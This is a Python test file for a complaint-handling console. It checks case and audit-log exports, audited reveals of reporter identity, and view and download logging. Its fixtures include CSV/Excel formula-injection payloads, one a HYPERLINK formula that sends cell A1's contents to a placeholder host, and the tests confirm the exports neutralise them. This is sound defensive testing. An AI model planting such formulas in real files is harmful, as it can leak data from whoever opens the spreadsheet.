"""Exports (issue 14.7) and an audit log auditors can use (issue 14.6): cases of a filter as CSV and XLSX with
local times, identity columns only for the roles that may reveal (audited), no formula injection; one view per
opened ticket (its thumbnails are not downloads), filters by action, actor, case and period, and export."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from storage.models import StaffRole
from tests.console.conftest import JPEG, PDF, ConsoleHarness

HOSTILE_PLACE = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
HOSTILE_TEXT = "+1 办事窗口无人，群众排队两小时以上。"
HOSTILE_NAME = "@SUM(1+1)"


async def _cases(console: ConsoleHarness) -> tuple[str, str, str]:
    hostile = await console.case("clean_hall", anonymous=False, name=HOSTILE_NAME, phone="-13800000000",
                                 description=HOSTILE_TEXT)
    async with console.database.sessionmaker.begin() as session:
        from sqlalchemy import select

        from storage.models import Case

        case = (await session.execute(select(Case).where(Case.case_number == hostile))).scalar_one()
        case.place = HOSTILE_PLACE
    plain = await console.case("clean_hall")
    other = await console.case("petitions", label="bribery_gifts")
    return hostile, plain, other


async def test_cases_export_as_csv_without_formulas_and_identity_only_when_asked(console: ConsoleHarness) -> None:
    await console.user("sup", StaffRole.SUPERVISOR)
    await console.user("rev", StaffRole.REVIEWER, ["clean_hall"])
    hostile, plain, other = await _cases(console)
    async with console.client() as client:
        await console.login(client, "rev")
        assert (await client.get("/console/export.csv?queue=clean_hall")).status_code == 403
    async with console.client() as client:
        csrf = await console.login(client, "sup")
        listing = (await client.get("/console/queue/clean_hall?status=routed")).text
        # the list's own filter, with the queue the page shows
        assert 'href="/console/export.csv?status=routed&amp;queue=clean_hall"' in listing
        response = await client.get("/console/export.csv?queue=clean_hall")
        assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"].startswith('attachment; filename="qinglian-cases-')
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        header, body = rows[0], {row[0]: row for row in rows[1:]}
        assert header[:3] == ["编号 case number", "收到时间 received (Asia/Shanghai)", "队列 queue"]
        assert "举报人姓名 reporter's name" not in header
        assert set(body) == {hostile, plain}  # the filter's queue only
        case = await console.get_case(hostile)
        local = case.created_at.astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M")
        row = dict(zip(header, body[hostile], strict=True))
        columns = ("收到时间 received (Asia/Shanghai)", "地点 place", "摘要 summary", "实名 real name")
        shown = [row[name] for name in columns]
        assert shown == [local, "'" + HOSTILE_PLACE, "'" + HOSTILE_TEXT, "是"]
        assert HOSTILE_NAME not in response.content.decode("utf-8-sig")
        with_identity = await client.post("/console/export.csv?queue=clean_hall&identity=1",
                                          data={"csrf": csrf, "reason": "核实举报线索"})
        rows = list(csv.reader(io.StringIO(with_identity.content.decode("utf-8-sig"))))
        named = dict(zip(rows[0], next(r for r in rows[1:] if r[0] == hostile), strict=True))
        assert (named["举报人姓名 reporter's name"], named["举报人电话 reporter's phone"]) == (
            "'" + HOSTILE_NAME, "'-13800000000")
    exports = await console.audit("case.export")
    assert [(e.detail["format"], e.detail["count"], e.detail["identity"], e.detail["filter"]) for e in exports] == [
        ("csv", 2, False, {"queue": "clean_hall"}), ("csv", 2, True, {"queue": "clean_hall"})]
    # the one real-name reporter of the file: a reveal on its ticket's record, with the reason
    assert [(e.case_id, e.detail["reason"], e.detail["via"]) for e in await console.audit("case.reveal_identity")] == [
        ((await console.get_case(hostile)).id, "核实举报线索", "export")]
    assert other  # filed in another queue, left out
    # every case the files held, on its own record: who took its report out of the console, in which export
    exported = [(e.case_id, e.detail["export_id"]) for e in await console.audit("case.in_export")]
    ids = sorted([(await console.get_case(number)).id for number in (hostile, plain)])
    assert sorted(exported) == sorted((case_id, export.id) for export in exports for case_id in ids)
    assert (await console.get_case(other)).id not in {case_id for case_id, _ in exported}


async def test_cases_export_as_xlsx_with_text_cells(console: ConsoleHarness) -> None:
    await console.user("boss", StaffRole.ADMIN)
    hostile, _plain, _other = await _cases(console)
    async with console.client() as client:
        csrf = await console.login(client, "boss")
        for reason in ({}, {"reason": "."}, {"reason": "ok"}):  # identities without a reason that says something
            refused = await client.get("/api/v1/export/cases", params={"format": "xlsx", "identity": "true", **reason},
                                       headers={"x-csrf-token": csrf})
            assert (refused.status_code, refused.json()) == (422, {"detail": (
                "an export with reporters' identities needs a reason of at least 4 letters or digits (it is recorded "
                "as a reveal of each case whose reporter's identity is exported)")}), reason
        assert await console.audit("case.export") == []
        response = await client.get("/api/v1/export/cases", params={
            "format": "xlsx", "identity": "true", "reason": "核实举报线索"}, headers={"x-csrf-token": csrf})
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        header = [cell.value for cell in sheet[1]]
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == hostile)
        cells = dict(zip(header, row, strict=True))
        place, name = cells["地点 place"], cells["举报人姓名 reporter's name"]
        # the exact text, as a string cell that Excel keeps as text (CSV's apostrophe is not added)
        assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in (place, name)] == [
            (HOSTILE_PLACE, "s", True), (HOSTILE_NAME, "s", True)]
        assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
        assert isinstance(cells["置信度 confidence (%)"].value, float)
        assert (await client.get("/api/v1/export/cases", params={"created_to": "9999-12-31"},
                                 headers={"x-csrf-token": csrf})).status_code == 422
        in_english = await client.get("/api/v1/export/cases", params={"format": "xlsx", "lang": "en"},
                                      headers={"x-csrf-token": csrf})
        english = load_workbook(io.BytesIO(in_english.content)).active
        assert english is not None
        english_cells = dict(zip([cell.value for cell in english[1]],
                                 next(r for r in english.iter_rows(min_row=2) if r[0].value == hostile), strict=True))
        assert (english_cells["place"].value, english_cells["place"].quotePrefix, english_cells["real name"].value) == (
            HOSTILE_PLACE, True, "yes")
    export, english_export = await console.audit("case.export")
    assert (english_export.detail["format"], english_export.detail["filter"]) == ("xlsx", {})  # lang is no filter
    assert (export.detail["identity"], export.detail["reason"], export.detail["filter"]) == (True, "核实举报线索", {
        "identity": "true"})  # the reason is not part of the filter
    assert [(e.case_id, e.detail) for e in await console.audit("case.reveal_identity")] == [
        ((await console.get_case(hostile)).id, {"reason": "核实举报线索", "via": "export", "export_id": export.id})]
    await console.user("rev", StaffRole.REVIEWER, ["clean_hall"])
    async with console.client() as client:
        await console.login(client, "rev")
        assert (await client.get("/api/v1/export/cases")).status_code == 403


async def test_opening_a_ticket_is_one_view_and_opening_a_file_one_download(console: ConsoleHarness) -> None:
    await console.user("rev", StaffRole.REVIEWER, ["clean_hall"])
    number = await console.case("clean_hall", attachments=[("a.jpg", "image/jpeg", JPEG), ("b.jpg", "image/jpeg", JPEG),
                                                           ("c.pdf", "application/pdf", PDF)])
    async with console.client() as client:
        await console.login(client, "rev")
        page = (await client.get(f"/console/case/{number}")).text
        thumbs = re.findall(r'<img src="(/console/case/[^"]+/thumb/\d+)"', page)
        assert len(thumbs) == 2
        for thumb in thumbs:  # what the browser loads with the page
            image = await client.get(thumb)
            assert (image.status_code, image.headers["content-type"]) == (200, "image/jpeg")  # the thumbnail
        assert [e.action for e in await console.audit(case_number=number)] == ["case.view"]
        opened = await client.get(thumbs[0].replace("/thumb/", "/evidence/"))
        assert opened.status_code == 200
        pdf = re.search(rf'/console/case/{number}/evidence/(\d+)" download', page)
        assert pdf and (await client.get(f"/console/case/{number}/evidence/{pdf.group(1)}")).status_code == 200
        assert (await client.get(f"/console/case/{number}/thumb/{pdf.group(1)}")).status_code == 404
    assert [e.action for e in await console.audit(case_number=number)] == ["case.view", "case.download",
                                                                            "case.download"]
    await console.user("other", StaffRole.REVIEWER, ["clean_hall"])
    async with console.client() as client:  # a thumbnail fetched without opening the ticket is a download
        await console.login(client, "other")
        assert (await client.get(thumbs[1])).status_code == 200
    last = (await console.audit(case_number=number))[-1]
    assert (last.action, last.detail["thumbnail"]) == ("case.download", True)


async def test_the_audit_log_filters_by_action_actor_case_and_period_and_exports(console: ConsoleHarness) -> None:
    await console.user("boss", StaffRole.ADMIN)
    await console.user("rev", StaffRole.REVIEWER, ["clean_hall"])
    first = await console.case("clean_hall")
    second = await console.case("clean_hall")
    async with console.client() as client:
        csrf = await console.login(client, "rev")
        for number in (first, second):
            await client.get(f"/console/case/{number}")
        await client.post(f"/console/case/{first}/accept", data={"csrf": csrf})
    today = datetime.now(ZoneInfo("Asia/Shanghai")).date().isoformat()
    async with console.client() as client:
        csrf = await console.login(client, "boss")
        views = (await client.get("/console/audit", params={"action": "case.view", "user": "rev"})).text
        assert views.count("<code class=\"dim\">case.view</code>") == 2
        grouped = (await client.get("/console/audit", params={"action": "case.", "case": first})).text
        assert re.findall(r'<code class="dim">([a-z_.]+)</code>', grouped) == ["case.accept", "case.view"]
        assert "127.0.0.1" in grouped
        period = (await client.get("/console/audit", params={"from": "2001-01-01", "to": "2001-12-31"})).text
        assert "没有记录" in period
        assert (await client.get("/console/audit", params={"from": "0001-01-01"})).status_code == 422
        exported = await client.get("/console/audit.csv", params={"action": "case.view", "from": today, "to": today})
        rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
        assert rows[0] == ["时间 time (Asia/Shanghai)", "用户 user", "操作 action", "案件 case", "详情 detail",
                           "地址 address", "操作名称 action name", "详情说明 detail, readable"]
        assert sorted((row[1], row[2], row[3], row[5]) for row in rows[1:]) == [
            ("rev", "case.view", first, "127.0.0.1"), ("rev", "case.view", second, "127.0.0.1")]
        # the action by its name in both languages, as the audit page shows it, not only its code
        assert {row[6] for row in rows[1:]} == {"查看 viewed"}
        api = await client.get("/api/v1/audit", params={"action": "case.accept"}, headers={"x-csrf-token": csrf})
        assert [(e["actor"], e["case_number"], e["ip"]) for e in api.json()["items"]] == [
            ("rev", first, "127.0.0.1")]
        assert (await client.get("/api/v1/audit", params={"to": "9999-12-31"})).status_code == 422
        api_csv = await client.get("/api/v1/audit.csv", params={"actor": "rev", "action": "case.accept"})
        assert api_csv.status_code == 200 and first in api_csv.text
    assert [e.detail["count"] for e in await console.audit("audit.export")] == [2, 1]
